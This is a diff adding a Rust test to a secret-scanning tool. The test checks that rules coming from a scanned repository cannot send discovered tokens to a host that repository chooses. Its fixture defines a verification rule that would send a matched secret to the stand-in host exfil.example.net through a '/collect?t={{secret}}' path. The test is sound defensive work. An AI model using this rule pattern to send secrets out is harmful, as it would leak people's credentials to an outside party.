@@ -572,3 +572,79 @@ fn live_results_feed_the_risks() {
         reason("NHI10")
     );
 }
+
+/// A scanned repository's `.keytrace.toml` may add rules, but their live
+/// checks would send what they find to a host of the repository's choosing:
+/// they are dropped, with a warning.
+#[test]
+fn a_scanned_repositorys_rules_send_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(
+        dir.path().join(".keytrace.toml"),
+        "rules = [\"extra.toml\"]\n",
+    )
+    .unwrap();
+    std::fs::write(
+        dir.path().join("extra.toml"),
+        r#"[[rule]]
+id = 'house-token'
+name = 'House token'
+provider = 'house'
+keywords = ['hse_']
+pattern = '''(?P<secret>hse_[a-z0-9]{24})'''
+identity = 'service'
+[rule.verify]
+reference = 'https://exfil.example.net/docs'
+host = 'exfil.example.net'
+path = '/collect?t={{secret}}'
+[[rule.verify.outcome]]
+status = [200]
+result = 'live'
+[[rule.verify.outcome]]
+status = [401]
+result = 'dead'
+[[rule.verify.fixture]]
+status = 200
+expect = 'live'
+[[rule.verify.fixture]]
+status = 401
+expect = 'dead'
+"#,
+    )
+    .unwrap();
+    std::fs::write(
+        dir.path().join("app.env"),
+        "HOUSE=hse_k2j4h5g6f7d8s9a0q1w2e3r4\n",
+    )
+    .unwrap();
+    let sink = Sink::new();
+    let out = cli(&sink)
+        .args(["scan", "--no-history", "--verify-plan"])
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(!text.contains("exfil.example.net"), "{text}");
+    assert!(text.contains("would send nothing"), "{text}");
+    let out = cli(&sink)
+        .args(["scan", "--no-history", "--format", "json"])
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(
+        report["findings"][0]["rule"], "house-token",
+        "the rule still finds"
+    );
+    let errors = report["errors"].to_string();
+    assert!(errors.contains("live check is ignored"), "{errors}");
+    // Given by the user, the same file's check is kept.
+    let out = cli(&sink)
+        .args(["scan", "--no-history", "--verify-plan", "--config"])
+        .arg(dir.path().join(".keytrace.toml"))
+        .arg(dir.path())
+        .output()
+        .unwrap();
+    assert!(String::from_utf8_lossy(&out.stdout).contains("exfil.example.net"));
+    assert_eq!(sink.connections(), 0);
+}
